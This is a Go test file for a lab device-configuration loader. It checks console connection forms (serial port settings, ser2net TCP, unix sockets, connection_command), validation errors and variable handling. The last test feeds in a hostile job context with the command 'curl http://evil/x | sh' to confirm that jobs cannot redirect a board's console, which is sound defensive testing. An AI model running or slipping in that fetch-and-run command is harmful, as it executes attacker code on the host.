package device_test

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/hashicorp/hcl/v2"

	"github.com/lavacore/lavacore/core/device"
	"github.com/lavacore/lavacore/sdk"
)

// mustangDevice is a device file of the built-in mustang type with body
// added to its device block (line 3 onwards).
func mustangDevice(body string) string {
	return "device \"d1\" {\n  device_type = \"mustang\"\n" + body + "\n  vars {\n    hard_reset_command = \"pdu reset\"\n  }\n}\n"
}

// A device names its console directly (a serial port, a TCP console as
// ser2net serves, a unix socket) instead of a connection_command, or keeps
// LAVA's connection_command.
func TestConnectionForms(t *testing.T) {
	tests := []struct {
		name     string
		dev      string
		want     device.Connection
		describe string
		spec     sdk.ConsoleSpec
	}{
		{"connection_command (LAVA)",
			"device \"d1\" {\n  device_type = \"mustang\"\n  vars {\n    connection_command = \"telnet serial4 7012\"\n    hard_reset_command = \"x\"\n  }\n}\n",
			device.Connection{Name: "serial", Command: "telnet serial4 7012", Primary: true, Tags: []string{"telnet"}},
			"telnet serial4 7012", sdk.ConsoleSpec{Command: "telnet serial4 7012"}},
		{"serial port, all settings",
			mustangDevice(`  connection "serial" {
    tags = []
    serial {
      port         = "/dev/serial/by-id/usb-FTDI-if00-port0"
      baud         = 9600
      data_bits    = 7
      parity       = "even"
      stop_bits    = 2
      flow_control = "rtscts"
    }
  }`),
			device.Connection{Name: "serial", Primary: true, Serial: &device.SerialPort{Port: "/dev/serial/by-id/usb-FTDI-if00-port0",
				Baud: 9600, DataBits: 7, Parity: "even", StopBits: 2, FlowControl: "rtscts"}},
			"serial /dev/serial/by-id/usb-FTDI-if00-port0 9600 7E2 rtscts",
			sdk.ConsoleSpec{Serial: "/dev/serial/by-id/usb-FTDI-if00-port0", Baud: 9600, DataBits: 7, Parity: "even", StopBits: 2, FlowControl: "rtscts"}},
		{"serial port, defaults",
			mustangDevice(`  connection "serial" {
    serial { port = "/dev/ttyUSB0" }
  }`),
			device.Connection{Name: "serial", Primary: true, Serial: &device.SerialPort{Port: "/dev/ttyUSB0"}},
			"serial /dev/ttyUSB0 115200 8N1", sdk.ConsoleSpec{Serial: "/dev/ttyUSB0"}},
		{"tcp (ser2net)",
			mustangDevice(`  connection "serial" {
    tcp  = "ser2net.lab:7001"
    tags = ["telnet"]
  }`),
			device.Connection{Name: "serial", Primary: true, TCP: "ser2net.lab:7001", Tags: []string{"telnet"}},
			"tcp ser2net.lab:7001", sdk.ConsoleSpec{TCP: "ser2net.lab:7001"}},
		{"unix socket",
			mustangDevice(`  connection "serial" {
    unix = "/run/qemu/board.sock"
  }`),
			device.Connection{Name: "serial", Primary: true, Unix: "/run/qemu/board.sock"},
			"unix /run/qemu/board.sock", sdk.ConsoleSpec{TCP: "unix:/run/qemu/board.sock"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			lab, diags := device.LoadLab(writeLab(t, "", tt.dev), device.LoadOptions{})
			if diags.HasErrors() {
				t.Fatal(diags)
			}
			d := lab.Devices["d1"]
			if len(d.Connections) != 1 {
				t.Fatalf("connections = %+v", d.Connections)
			}
			c := d.Connections[0]
			if diff := cmp.Diff(tt.want, c); diff != "" {
				t.Errorf("connection (-want +got):\n%s", diff)
			}
			if got := c.Describe(); got != tt.describe {
				t.Errorf("Describe() = %q, want %q", got, tt.describe)
			}
			s := d.SDK("")
			got, err := s.ConsoleSpec()
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.spec, got); diff != "" {
				t.Errorf("sdk ConsoleSpec (-want +got):\n%s", diff)
			}
			if s.Connection != tt.want.Command {
				t.Errorf("sdk Connection = %q, want %q (the command form only)", s.Connection, tt.want.Command)
			}
			var b strings.Builder
			if err := device.WriteDevice(&b, d); err != nil {
				t.Fatal(err)
			}
			if !strings.Contains(b.String(), "serial (primary)") || !strings.Contains(b.String(), tt.describe) {
				t.Errorf("devices show lacks %q:\n%s", tt.describe, b.String())
			}
		})
	}
}

// Mistakes in a connection block are errors at the file and line of the
// mistake.
func TestConnectionErrors(t *testing.T) {
	tests := []struct {
		name string
		body string
		line int
		want string
	}{
		{"command and tcp", `  connection "serial" {
    command = "telnet a 1"
    tcp     = "a:1"
  }`, 5, `connection "serial": sets both command (line 4) and tcp; a connection is exactly one of command (LAVA's connection_command), tcp = "HOST:PORT", unix = "/PATH" or serial { port = "/dev/…" }`},
		{"serial and unix", `  connection "serial" {
    serial { port = "/dev/ttyUSB0" }
    unix = "/run/x.sock"
  }`, 5, `sets both serial {} (line 4) and unix`},
		{"tcp without port", `  connection "serial" {
    tcp = "ser2net.lab"
  }`, 4, `tcp needs "HOST:PORT"`},
		{"tcp port out of range", `  connection "serial" {
    tcp = "h:70000"
  }`, 4, `tcp needs a port number from 1 to 65535, not "70000"`},
		{"relative unix path", `  connection "serial" {
    unix = "run/x.sock"
  }`, 4, `unix needs the absolute path of a socket`},
		{"no port", `  connection "serial" {
    serial { baud = 9600 }
  }`, 4, `The argument "port" is required`},
		{"relative port", `  connection "serial" {
    serial { port = "ttyUSB0" }
  }`, 4, `serial.port needs the absolute path of a serial device`},
		{"parity", `  connection "serial" {
    serial {
      port   = "/dev/ttyUSB0"
      parity = "evn"
    }
  }`, 6, `serial.parity must be one of "none", "odd", "even", "mark", "space", not "evn". Did you mean "even"?`},
		{"flow control", `  connection "serial" {
    serial {
      port         = "/dev/ttyUSB0"
      flow_control = "hardware"
    }
  }`, 6, `serial.flow_control must be one of "none", "rtscts", "xonxoff", not "hardware"`},
		{"data bits", `  connection "serial" {
    serial {
      port      = "/dev/ttyUSB0"
      data_bits = 9
    }
  }`, 6, `serial.data_bits must be 5, 6, 7 or 8, not 9`},
		{"stop bits 1.5", `  connection "serial" {
    serial {
      port      = "/dev/ttyUSB0"
      stop_bits = 1.5
    }
  }`, 6, `serial.stop_bits must be 1 or 2 (1.5 is not supported by Linux's termios), not 1.5`},
		{"baud", `  connection "serial" {
    serial {
      port = "/dev/ttyUSB0"
      baud = "fast"
    }
  }`, 6, `serial.baud needs a number`},
		{"two serial blocks", `  connection "serial" {
    serial { port = "/dev/ttyUSB0" }
    serial { port = "/dev/ttyUSB1" }
  }`, 5, `a second serial block (the first is at line 4)`},
		{"duplicate connection", `  connection "serial" {
    tcp = "a:1"
  }
  connection "serial" {
    tcp = "a:2"
  }`, 6, `Connection "serial" is already defined at line 3`},
		{"unknown attribute", `  connection "serial" {
    serial {
      port = "/dev/ttyUSB0"
      speed = 9600
    }
  }`, 6, `An argument named "speed" is not expected here`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, diags := device.LoadLab(writeLab(t, "", mustangDevice(tt.body)), device.LoadOptions{})
			var found *hcl.Diagnostic
			for _, d := range diags {
				if d.Severity == hcl.DiagError && strings.Contains(d.Summary+": "+d.Detail, tt.want) {
					found = d
				}
			}
			if found == nil {
				t.Fatalf("no error %q in:\n%v", tt.want, diags)
			}
			if found.Subject == nil || !strings.HasSuffix(found.Subject.Filename, "d.hcl") || found.Subject.Start.Line != tt.line {
				t.Errorf("error at %v, want d.hcl:%d", found.Subject, tt.line)
			}
		})
	}
}

// A type that offers two forms through variables lets each device pick one;
// null is unset, so only a device setting both is an error.
func TestConnectionFormsThroughVariables(t *testing.T) {
	const typ = `device_type "t" {
  description = "t"
}
variable "connection_command" {
  default = null
}
variable "console_tcp" {
  default = null
}
connection "serial" {
  primary = true
  command = var.connection_command
  tcp     = var.console_tcp
}
`
	for _, tt := range []struct{ vars, want, err string }{
		{`connection_command = "telnet a 1"`, "telnet a 1", ""},
		{`console_tcp = "a:1"`, "tcp a:1", ""},
		{``, "", ""},
		{"connection_command = \"telnet a 1\"\n    console_tcp = \"a:1\"", "", "sets both command (line 12) and tcp"},
	} {
		dir := writeLab(t, typ, "device \"d1\" {\n  device_type = \"t\"\n  vars {\n    "+tt.vars+"\n  }\n}\n")
		lab, diags := device.LoadLab(dir, device.LoadOptions{})
		if tt.err != "" {
			if !strings.Contains(diags.Error(), tt.err) {
				t.Errorf("%s: diags = %v, want %q", tt.vars, diags, tt.err)
			}
			continue
		}
		if diags.HasErrors() {
			t.Fatalf("%s: %v", tt.vars, diags)
		}
		if got := lab.Devices["d1"].Connections[0].Describe(); got != tt.want {
			t.Errorf("%s: connection %q, want %q", tt.vars, got, tt.want)
		}
	}
}

// A device that names its own console does not have to set the type's
// connection_command, but one that does not still must (the type's error).
func TestConnectionCommandNotRequiredWithOwnConnection(t *testing.T) {
	_, diags := device.LoadLab(writeLab(t, "", mustangDevice("")), device.LoadOptions{})
	if !strings.Contains(diags.Error(), `must set variable "connection_command"`) {
		t.Errorf("without a connection block: %v", diags)
	}
	_, diags = device.LoadLab(writeLab(t, "", mustangDevice(`  connection "other" {
    tcp = "a:1"
  }`)), device.LoadOptions{})
	if !strings.Contains(diags.Error(), `must set variable "connection_command"`) {
		t.Errorf("with a connection of another name: %v", diags)
	}
}

// The attack: a job's `context:` rewriting the device's console — a
// connection_command that runs what the job wants on the dispatcher, or a
// serial port / TCP address that is another board's (or /etc/shadow) —
// through a variable a careless device type lists in job_context. The
// connection keeps the device's value; the variable itself shows the job's.
func TestJobContext_CannotRedirectConsole(t *testing.T) {
	const typ = `device_type "t" {
  description = "t"
  job_context = ["connection_command", "serial_port", "baud"]
}
variable "connection_command" {
  default = "telnet ser2net 7001"
}
variable "serial_port" {
  default = "/dev/ttyUSB0"
}
variable "baud" {
  default = 115200
}
connection "serial" {
  primary = true
  command = var.connection_command
}
connection "uart1" {
  serial {
    port = var.serial_port
    baud = var.baud
  }
}
`
	lab, diags := device.LoadLab(writeLab(t, typ, "device \"d1\" {\n  device_type = \"t\"\n}\n"), device.LoadOptions{})
	if diags.HasErrors() {
		t.Fatal(diags)
	}
	hostile := map[string]any{
		"connection_command": "sh -c 'curl http://evil/x | sh'",
		"serial_port":        "/dev/ttyUSB7",
		"baud":               9600,
	}
	d, diags := lab.Device("d1", hostile)
	if diags.HasErrors() {
		t.Fatal(diags)
	}
	if got := d.Connections[0].Command; got != "telnet ser2net 7001" {
		t.Errorf("the job's context changed the connection command to %q", got)
	}
	if got := d.Connections[1].Serial; got == nil || got.Port != "/dev/ttyUSB0" || got.Baud != 115200 {
		t.Errorf("the job's context changed the serial port to %+v", got)
	}
	if spec, _ := d.SDK("").ConsoleSpec(); spec.Command != "telnet ser2net 7001" {
		t.Errorf("a method would open %+v", spec)
	}
	if d.Vars["serial_port"].Origin != device.FromJobContext {
		t.Errorf("serial_port = %+v, want the job's value in Vars", d.Vars["serial_port"])
	}
}
